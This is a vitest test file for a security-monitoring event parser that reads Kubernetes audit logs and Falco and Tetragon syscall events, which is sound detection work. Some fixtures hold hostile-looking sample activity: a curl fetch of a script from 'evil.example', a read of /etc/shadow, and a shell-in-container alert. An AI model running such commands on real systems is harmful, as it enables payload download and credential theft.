/**
 * Event input: audit JSON (Event, EventList, arrays, JSON lines, a pretty-printed document), the
 * syscall JSON shapes (flat Falco fields, Falco alerts, Tetragon exports), bad input counted and
 * skipped, and the syscall field lookups and derivations.
 */
import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { defaultRegistry, eventsFromText, makeEvent, newCounters, parseTimestamp, readEvents, syscallEvent, type FieldValue, type RuntimeEvent } from '../../../src/runtime/index.ts';

const auditEvent = (id: string, extra: Record<string, unknown> = {}) => ({
  kind: 'Event',
  apiVersion: 'audit.k8s.io/v1',
  auditID: id,
  stage: 'ResponseComplete',
  verb: 'get',
  stageTimestamp: '2024-05-01T10:00:00.123456789Z',
  ...extra,
});

describe('parseTimestamp', () => {
  it.each([
    ['2024-05-01T10:00:00Z', { sec: 1714557600, nsec: 0 }],
    ['2024-05-01T10:00:00.5Z', { sec: 1714557600, nsec: 500000000 }],
    ['2024-05-01T10:00:00.123456789Z', { sec: 1714557600, nsec: 123456789 }],
    ['2024-05-01T12:00:00.000001+02:00', { sec: 1714557600, nsec: 1000 }],
    ['2024-05-01T10:00:00.1Z', { sec: 1714557600, nsec: 100000000 }],
    ['2024-05-01 10:00:00z', { sec: 1714557600, nsec: 0 }],
    ['2024-13-45T99:99:99Z', undefined],
    ['2024-05-01T10:00:00.1234567890Z', undefined],
    ['yesterday', undefined],
  ])('%s', (text, expected) => {
    expect(parseTimestamp(text)).toEqual(expected);
  });
});

describe('audit input', () => {
  it('reads Event, EventList and arrays, with stageTimestamp as time', () => {
    const counters = newCounters();
    const text = JSON.stringify([auditEvent('a'), { kind: 'EventList', apiVersion: 'audit.k8s.io/v1', items: [auditEvent('b'), auditEvent('c')] }]);
    const events = eventsFromText(text, counters);
    expect(events.map((e) => e.data.auditID)).toEqual(['a', 'b', 'c']);
    expect(events.map((e) => e.num)).toEqual([1, 2, 3]);
    expect(events[0]).toMatchObject({ source: 'k8s_audit', sec: 1714557600, nsec: 123456789 });
  });

  it('reads JSON lines, counting lines that are not JSON or not events', () => {
    const counters = newCounters();
    const text = [JSON.stringify(auditEvent('a')), 'garbage {', JSON.stringify({ kind: 0 }), '', JSON.stringify(auditEvent('b', { stageTimestamp: undefined }))].join('\n');
    const events = eventsFromText(text, counters, { source: 'k8s_audit' });
    expect(events.map((e) => e.data.auditID)).toEqual(['a']);
    expect(counters).toMatchObject({ events: 1, malformed: 1, invalid: 2 });
  });

  it('falls back to requestReceivedTimestamp, and drops oversized events', () => {
    const counters = newCounters();
    const events = eventsFromText(JSON.stringify(auditEvent('a', { stageTimestamp: undefined, requestReceivedTimestamp: '2024-05-01T10:00:01Z' })), counters);
    expect(events[0]?.sec).toBe(1714557601);
    const big = JSON.stringify(auditEvent('big', { requestObject: { data: 'x'.repeat(2000) } }));
    expect(eventsFromText(big, counters, { maxEventSize: 1000 })).toEqual([]);
    expect(counters.oversized).toBe(1);
  });

  it('reads a stream line by line, or as one document when the first line is not JSON alone', async () => {
    const lines = newCounters();
    const fromLines: RuntimeEvent[] = [];
    for await (const e of readEvents(Readable.from([`${JSON.stringify(auditEvent('a'))}\n${JSON.stringify(auditEvent('b'))}\n`]), lines)) fromLines.push(e);
    expect(fromLines.map((e) => e.data.auditID)).toEqual(['a', 'b']);
    const doc = newCounters();
    const fromDoc: RuntimeEvent[] = [];
    const pretty = JSON.stringify({ kind: 'EventList', items: [auditEvent('x'), auditEvent('y')] }, null, 2);
    for await (const e of readEvents(Readable.from([pretty]), doc)) fromDoc.push(e);
    expect(fromDoc.map((e) => e.data.auditID)).toEqual(['x', 'y']);
  });
});

describe('syscall input', () => {
  it('takes flat Falco fields, with evt.time as time', () => {
    const e = syscallEvent({ 'evt.type': 'execve', 'proc.name': 'bash', 'evt.time': '2024-05-01T10:00:00.000000042Z' }, 1)!;
    expect(e).toMatchObject({ source: 'syscall', sec: 1714557600, nsec: 42 });
    expect(syscallEvent({ 'evt.type': 'open', 'evt.rawtime': '1714557600000000001' }, 1)).toMatchObject({ sec: 1714557600, nsec: 1 });
    expect(syscallEvent({ unrelated: true }, 1)).toBeUndefined();
  });

  it('takes Falco JSON alerts: their output fields are the event', () => {
    const alert = { output: '…', priority: 'Notice', rule: 'Terminal shell in container', source: 'syscall', time: '2024-05-01T10:00:00.5Z', output_fields: { 'evt.type': 'execve', 'proc.name': 'bash', 'container.id': 'abc' } };
    const e = syscallEvent(alert, 1)!;
    expect(e.data['proc.name']).toBe('bash');
    expect(e.nsec).toBe(500000000);
    expect(syscallEvent({ ...alert, source: 'k8s_audit' }, 1)).toBeUndefined();
  });

  it('maps Tetragon process_exec onto proc, user, container and k8s fields', () => {
    const line = {
      process_exec: {
        process: {
          exec_id: 'ZXhlYw==',
          pid: 4242,
          uid: 0,
          auid: 4294967295,
          cwd: '/',
          binary: '/usr/bin/curl',
          arguments: 'http://evil.example/x.sh',
          pod: { namespace: 'shop', name: 'web-1', pod_labels: { app: 'web' }, container: { id: 'containerd://3ad7b26ded6d1234567890', name: 'web', image: { id: 'sha256:1', name: 'docker.io/library/nginx:1.25' } } },
          cap: { permitted: ['CAP_SYS_ADMIN', 'CAP_NET_RAW'], effective: ['CAP_SYS_ADMIN'] },
        },
        parent: { pid: 4200, binary: '/bin/bash', arguments: '-c curl' },
      },
      node_name: 'node-1',
      time: '2024-05-01T10:00:00.123Z',
    };
    const e = syscallEvent(line, 1)!;
    const f = (name: string, arg?: string) => value(e, name, arg);
    expect(f('evt.type')).toBe('execve');
    expect(f('proc.name')).toBe('curl');
    expect(f('proc.cmdline')).toBe('curl http://evil.example/x.sh');
    expect(f('proc.pname')).toBe('bash');
    expect(f('proc.pcmdline')).toBe('bash -c curl');
    expect(f('proc.aname', '1')).toBe('bash');
    expect(f('user.loginuid')).toBe(-1);
    expect(f('container.id')).toBe('3ad7b26ded6d');
    expect(f('container.image.repository')).toBe('docker.io/library/nginx');
    expect(f('container.image.tag')).toBe('1.25');
    expect(f('k8s.ns.name')).toBe('shop');
    expect(f('k8s.pod.label', 'app')).toBe('web');
    expect(f('thread.cap_permitted')).toBe('CAP_SYS_ADMIN CAP_NET_RAW');
    expect(f('evt.hostname')).toBe('node-1');
  });

  it('maps Tetragon kprobes onto evt.type and fd.name', () => {
    const e = syscallEvent({ process_kprobe: { process: { binary: '/bin/cat' }, function_name: '__x64_sys_openat', args: [{ int_arg: 1 }, { file_arg: { path: '/etc/shadow' } }] } }, 1)!;
    expect(value(e, 'evt.type')).toBe('openat');
    expect(value(e, 'fd.name')).toBe('/etc/shadow');
    expect(value(e, 'fd.directory')).toBe('/etc');
    expect(value(e, 'container.id')).toBe('host');
  });
});

function value(evt: RuntimeEvent, name: string, arg?: string): FieldValue | undefined {
  const resolved = defaultRegistry.lookup('syscall', name, arg);
  if (!resolved) throw new Error(`unknown field ${name}`);
  return resolved.def.bind(resolved.arg)(evt);
}

describe('syscall fields', () => {
  const e = (data: Record<string, unknown>) => makeEvent('syscall', data, { sec: 0, nsec: 0 });

  it('look up flat names, bracketed arguments, arrays, objects and nested objects', () => {
    const evt = e({ 'proc.aname[3]': 'init', 'proc.aname': ['bash', 'sshd'], 'proc.env': { HOME: '/root' }, proc: { tty: '34816' }, 'evt.arg.flags': 'O_RDONLY', 'proc.name': 'ls' });
    expect(value(evt, 'proc.aname', '0')).toBe('ls');
    expect(value(evt, 'proc.aname', '1')).toBe('bash');
    expect(value(evt, 'proc.aname', '2')).toBe('sshd');
    expect(value(evt, 'proc.aname', '3')).toBe('init');
    expect(value(evt, 'proc.aname')).toEqual(['bash', 'sshd', 'init']);
    expect(value(evt, 'proc.pname')).toBe('bash');
    expect(value(evt, 'proc.env', 'HOME')).toBe('/root');
    expect(value(evt, 'proc.tty')).toBe(34816);
    expect(value(evt, 'evt.arg', 'flags')).toBe('O_RDONLY');
    expect(defaultRegistry.lookup('syscall', 'evt.arg.flags')).toMatchObject({ arg: 'flags' });
  });

  it('derive what libsinsp derives', () => {
    const open = e({ 'evt.type': 'openat', 'fd.name': '/etc/ssh/sshd_config', 'evt.arg.flags': 'O_RDWR|O_CREAT', 'proc.exepath': '/usr/bin/vim', 'proc.args': '-R x', 'evt.rawres': -13, 'container.image': 'ghcr.io/acme/app:2.1@sha256:ff' });
    expect(value(open, 'proc.name')).toBe('vim');
    expect(value(open, 'proc.cmdline')).toBe('vim -R x');
    expect(value(open, 'fd.directory')).toBe('/etc/ssh');
    expect(value(open, 'fd.filename')).toBe('sshd_config');
    expect(value(open, 'evt.is_open_read')).toBe(true);
    expect(value(open, 'evt.is_open_write')).toBe(true);
    expect(value(open, 'evt.is_open_create')).toBe(true);
    expect(value(open, 'evt.res')).toBe('EACCES');
    expect(value(open, 'evt.failed')).toBe(true);
    expect(value(open, 'evt.dir')).toBe('<');
    expect(value(open, 'container.image.repository')).toBe('ghcr.io/acme/app');
    expect(value(open, 'container.image.tag')).toBe('2.1');
    expect(value(open, 'container.image.digest')).toBe('sha256:ff');
    const sock = e({ 'evt.type': 'connect', 'fd.name': '10.0.0.5:41234->10.96.0.1:443', 'fd.typechar': '4' });
    expect(value(sock, 'fd.sip')).toBe('10.96.0.1');
    expect(value(sock, 'fd.sport')).toBe(443);
    expect(value(sock, 'fd.ip')).toEqual(['10.0.0.5', '10.96.0.1']);
    expect(value(sock, 'fd.directory')).toBeUndefined();
    expect(value(sock, 'fd.type')).toBe('ipv4');
  });

  it('leave fields the stream does not carry without a value', () => {
    expect(value(e({ 'evt.type': 'execve' }), 'proc.is_exe_upper_layer')).toBeUndefined();
    expect(value(e({ 'evt.type': 'execve' }), 'container.id')).toBeUndefined();
  });

  it('find container mounts by source glob or index', () => {
    const evt = e({ 'container.mounts': [{ source: '/proc', dest: '/host/proc', mode: 'ro' }, { source: '/var/run/docker.sock', dest: '/var/run/docker.sock' }] });
    expect(value(evt, 'container.mount.dest', '/proc*')).toBe('/host/proc');
    expect(value(evt, 'container.mount.dest', '1')).toBe('/var/run/docker.sock');
    expect(value(evt, 'container.mount.dest', '/etc')).toBeUndefined();
  });
});
